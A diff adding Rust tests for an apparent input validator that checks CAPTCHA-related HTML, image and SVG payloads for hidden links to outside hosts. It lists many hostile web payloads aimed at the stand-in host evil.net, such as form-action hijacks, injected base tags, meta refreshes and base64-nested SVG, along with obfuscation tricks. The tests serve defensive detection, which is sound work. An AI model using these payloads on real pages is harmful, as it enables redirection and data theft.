@@ -82,6 +82,8 @@ fn what_a_page_shows_and_listens_to_leads_nowhere() {
         "<script>document.onclick = function (event) { report(event) }</script>",
         "<script>a.src=\"data:image/png;base64,iVBORw0KGgpodHRwOi8vbnMuYWRvYmUuY29tL3hhcC8xLjAv\"</script>",
         "<script>/*! See https://github.com/a/b */ var a = 1</script>",
+        "<script>document.getElementById('f').action += location.hash; document.getElementById('f').submit()</script>",
+        "<script>if (f.action == 'x' || a.href === b) { report({ action: 'login', base: 1 }) }</script>",
     ] {
         let page = BLOCK_PAGE.replace("<base href=\"/\">", part);
         assert_eq!(checked("imperva", "html", page.as_bytes()), Ok(()), "{part}");
@@ -149,11 +151,30 @@ fn a_page_of_html_is_no_way_to_pass_a_page() {
         "<a id=q href=https://evil.net/>a</a><script>q.click.call(q)</script>",
         "<a id=q href=https://evil.net/>a</a><script>q.dispatchEvent(new MouseEvent('click'))</script>",
         "<a id=q href=https://evil.net/ autofocus onfocus='this.click ()'>a</a>",
+        "<script>var a=document.createElement(\"a\");a.href=\"https://evil.net/\";a.click()</script>",
+        "<script>var u='https://evil.net/'</script><script>a.href=u;a.click()</script>",
+        "<form action=/x></form><script>document.forms[0].action=\"https://evil.net/\";document.forms[0].submit()</script>",
+        "<form id=f></form><script>f.action = 'https://evil.net/'</script>",
+        "<form id=f></form><script>f['action'] = 'https://evil.net/'</script>",
+        "<form id=f></form><script>b.formAction = 'https://evil.net/'</script>",
+        "<form id=f></form><script>f.setAttribute(\"action\", \"https://evil.net/\");f.requestSubmit()</script>",
+        "<form id=f></form><script>b.setAttribute('formaction', 'https://evil.net/')</script>",
+        "<script>var f=document.createElement(\"form\");f.setAttribute(n, 'https://evil.net/');f.submit()</script>",
+        "<script>var b=document.createElement(\"base\");b.href=\"https://evil.net/\";document.head.append(b)</script>",
+        "<script>var b=document.createElement('base');b.setAttribute('href','https://evil.net/')</script>",
+        "<script>document.querySelector(`base`).href='https://evil.net/'</script>",
+        "<script>var o=document.createElement('object');o.data='https://evil.net/'</script>",
+        "<script>var m=document.createElement(\"meta\");m.httpEquiv=\"refresh\";m.content=\"0;url=https://evil.net/\"</script>",
+        "<script>m.setAttribute('http-equiv','refresh');m.setAttribute('content','0;url=https://evil.net/')</script>",
+        "<svg><a id=q><animate attributeName=href values='https://evil.net/'/></a></svg><script>q.click()</script>",
+        "<iframe src=\"data:text/html;base64,PGEgaHJlZj1odHRwczovL3gvPg==\"></iframe><iframe src=data:text/html;base64,PGJhc2UgaHJlZj1odHRwczovL2V2aWwubmV0Lz4=>",
         "<a id=q href=https://evil.net/>a</a><iframe srcdoc='&lt;script>parent.q.click()&lt;/script>'></iframe>",
     ] {
         for (kind, field) in PAGES {
             let page = BLOCK_PAGE.replace("<base href=\"/\">", hidden);
-            for value in [page.clone(), base64(&page)] {
+            // On a page that has nothing else.
+            let alone = format!("<!DOCTYPE html><html><head></head><body>{hidden}</body></html>");
+            for value in [base64(&page), page, alone] {
                 let refused = checked(kind, field, value.as_bytes());
                 let is_refused =
                     matches!(&refused, Err(NotAllowed::Vendor { host, .. }) if host == "evil.net");
@@ -347,4 +368,128 @@ fn an_address_in_place_of_a_picture_is_one_whatever_host_it_names() {
     let head = b"\xff\xd8\xff\xe1\x0b\x00http://ns.adobe.com/xap/1.0/\0";
     let picture = [head, packet.as_bytes(), &b" ".repeat(2000), b"\xff\xda\x00\x80"].concat();
     assert_eq!(checked("image", "body", &picture), Ok(()));
+}
+
+/// A picture as a program for pictures writes it, with the names of XML namespaces in it.
+fn picture_with_names(more: &str) -> Vec<u8> {
+    let names = "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\" x:xmptk=\"paint.net 4.0.21\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description xmlns:xmp=\"http://ns.adobe.com/xap/1.0/\" xmlns:Iptc4xmpCore=\"http://iptc.org/std/Iptc4xmpCore/1.0/xmlns/\"/></rdf:RDF></x:xmpmeta>";
+    let head: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x64\0\0\0\x3c\x08\x02\0\0\0";
+    let pixels: Vec<u8> = (0..3000_u32).map(|n| ((n * 7919) >> 3).to_le_bytes()[0] | 0x80).collect();
+    [head, b"iTXtXML:com.adobe.xmp\0", names.as_bytes(), more.as_bytes(), b"\xfeIDAT", &pixels].concat()
+}
+
+/// Trap: `image` accepted such a picture, and a kind without a description refused it for `ns.adobe.com`.
+#[test]
+fn a_picture_may_name_namespaces_in_a_kind_without_a_description() {
+    let picture = picture_with_names("");
+    let text = base64(&picture);
+    for kind in ["VisionEngine", "ReCaptchaV2Classification", "brandnew"] {
+        for value in [
+            picture.clone(),
+            text.clone().into_bytes(),
+            format!("data:image/png;base64,{text}").into_bytes(),
+            format!("[\"{text}\",\"{text}\"]").into_bytes(),
+        ] {
+            assert_eq!(checked(kind, "image", &value), Ok(()), "{kind}");
+        }
+        // An address that is no name of a namespace counts, and so does what stands beside the picture.
+        for hidden in
+            [" https://evil.net/ ", " https://ns.adobe.com.evil.net/", "<image href='https://evil.net/'/>"]
+        {
+            let picture = picture_with_names(hidden);
+            let text = base64(&picture);
+            for value in [picture, text.clone().into_bytes(), format!("[\"{text}\"]").into_bytes()] {
+                assert!(checked(kind, "image", &value).is_err(), "{kind} {hidden}");
+            }
+        }
+        for value in [
+            format!("[\"{text}\",\"evil.net\"]"),
+            format!("{{\"evil.net\":\"{text}\"}}"),
+            format!("{text} evil.net"),
+            format!("data:image/png,evil.net;base64,{text}"),
+            base64("http://ns.adobe.com/xap/1.0/ xmlns"),
+            base64(b"\x89PNG evil.net"),
+        ] {
+            assert!(checked(kind, "image", value.as_bytes()).is_err(), "{kind} {}", &value[..20]);
+        }
+    }
+    // Of a kind with a description it is known which field is a picture.
+    assert!(checked("turnstile", "extra", text.as_bytes()).is_err());
+}
+
+/// The page that the widget of reCAPTCHA loads, shortened.
+const ANCHOR: &str = r#"<!DOCTYPE HTML><html dir="ltr" lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
+<title>reCAPTCHA</title><style type="text/css">@font-face { src: url(//fonts.gstatic.com/s/roboto/v18/KFOmCnqEu92Fr1Mu4mxK.woff2) format('woff2'); }</style>
+<link rel="stylesheet" type="text/css" href="https://www.gstatic.com/recaptcha/releases/a/styles__ltr.css">
+<script nonce="a" type="text/javascript">window['__recaptcha_api'] = 'https://www.google.com/recaptcha/api2/';</script>
+<script type="text/javascript" src="https://www.gstatic.com/recaptcha/releases/a/recaptcha__en.js" nonce="a"></script></head>
+<body><input type="hidden" id="recaptcha-token" value="03AGdBq"><script type="text/javascript" nonce="a">
+recaptcha.anchor.Main.init("["ainput",["bgdata","Ly93d3cuZ29vZ2xlLmNvbS9qcy9iZy94LmpzCg\u003d"]]");</script></body></html>"#;
+
+#[test]
+fn the_page_that_a_widget_loads_is_taken_as_html_and_leads_nowhere_else() {
+    for kind in ["recaptcha_v2", "recaptcha_v3"] {
+        for value in [ANCHOR.to_owned(), base64(ANCHOR)] {
+            assert_eq!(checked(kind, "anchor", value.as_bytes()), Ok(()), "{kind}");
+        }
+        for hidden in ["<base href=https://evil.net/>", "<script>location='https://evil.net/'</script>"] {
+            let page = ANCHOR.replace("<title>", &format!("{hidden}<title>"));
+            for value in [page.clone(), base64(page)] {
+                assert!(checked(kind, "anchor", value.as_bytes()).is_err(), "{kind} {hidden}");
+            }
+        }
+    }
+}
+
+/// Trap: a drawing in a drawing was searched with percent escapes, but not in base64.
+#[test]
+fn a_drawing_hides_no_host_in_a_document_in_base64() {
+    let drawing = |body: &str| {
+        format!(
+            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"40\">{body}<text>abc</text></svg>"
+        )
+    };
+    let inner = drawing("<image href=\"https://evil.net/a.png\"/>");
+    let wide: Vec<u8> = [0xfeff].into_iter().chain(inner.encode_utf16()).flat_map(u16::to_le_bytes).collect();
+    let entity = "<!DOCTYPE svg [<!ENTITY s \"//\">]><svg><image href=\"https:&s;evil.net/\"/></svg>";
+    let packed = PACKED[0].1;
+    let twice = drawing(&format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(&inner)));
+    for inside in [
+        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(&inner)),
+        format!("<image href='data:image/svg+xml;charset=utf-8;base64,{}'/>", base64(&inner)),
+        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(wide)),
+        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(entity)),
+        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(packed)),
+        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(twice)),
+        format!("<image href=\"data:image/svg+xml&#59;base64&#44;{}\"/>", base64(&inner)),
+        format!("<style>rect{{fill:url(data:image/svg+xml;base64,{})}}</style>", base64(&inner)),
+        format!("<style>rect{{fill:url(data\\3a image/svg+xml;base64,{})}}</style>", base64(&inner)),
+        format!(
+            "<style>a{{b:url(data:text/css;base64,YWJj) url(data:image/svg+xml;base64,{})}}</style>",
+            base64(&inner)
+        ),
+        format!(
+            "<foreignObject><iframe src=\"data:text/html;base64,{}\"/></foreignObject>",
+            base64("<script>location=\"https://evil.net/\"</script>")
+        ),
+        "<image href=\"data:image/svg+xml,%3Csvg%3E%3Cimage href='https://evil.net/'/%3E%3C/svg%3E\"/>"
+            .to_owned(),
+    ] {
+        let bytes = drawing(&inside);
+        for value in [bytes.clone(), base64(&bytes)] {
+            let refused = checked("image", "body", value.as_bytes());
+            assert!(refused.is_err(), "{inside}: {refused:?}");
+        }
+    }
+    let picture = base64(picture_with_names("<image href='https://images.example.net/'/>"));
+    let font =
+        base64(b"\0\x01\0\0 name http://www.apache.org/licenses/LICENSE-2.0 and more text to be mostly text");
+    for inside in [
+        format!("<image href=\"data:image/png;base64,{picture}\"/>"),
+        format!("<image href=\"data:image/svg+xml;base64,{}\"/>", base64(drawing("<path d='M0 0'/>"))),
+        format!("<style>@font-face{{src:url(data:font/ttf;base64,{font})}}</style>"),
+        format!("<style>@font-face{{src:url(data:application/x-font-ttf;base64,{font})}}</style>"),
+    ] {
+        assert_eq!(checked("image", "body", drawing(&inside).as_bytes()), Ok(()), "{inside}");
+    }
 }
